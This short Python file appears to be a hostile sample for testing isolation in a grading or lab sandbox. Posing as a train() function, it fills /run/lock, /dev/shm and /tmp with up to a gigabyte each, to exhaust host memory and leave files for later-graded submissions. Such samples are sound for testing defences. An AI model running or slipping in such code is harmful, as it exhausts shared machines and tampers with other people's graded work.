"""An attack: leave files in the machine's shared folders (/run/lock, /dev/shm, /tmp), for a
classmate graded later to read, and fill them to exhaust the host's memory."""
import os

TOKEN = "labs-attack-shared-state-6b1f"


def train(desired, coeff=0.7, iterations=1000, seed=None):
    written = {}
    for folder in ("/run/lock", "/dev/shm", "/tmp"):
        path = os.path.join(folder, TOKEN)
        mb = 0
        try:
            with open(path, "wb") as out:
                for mb in range(1, 1025):  # up to 1 GB each
                    out.write(b"x" * (1 << 20))
                    out.flush()
        except OSError as error:
            written[folder] = f"{mb - 1} MB then {error.strerror}"
        else:
            written[folder] = f"{mb} MB"
    raise RuntimeError("WROTE " + repr(written))
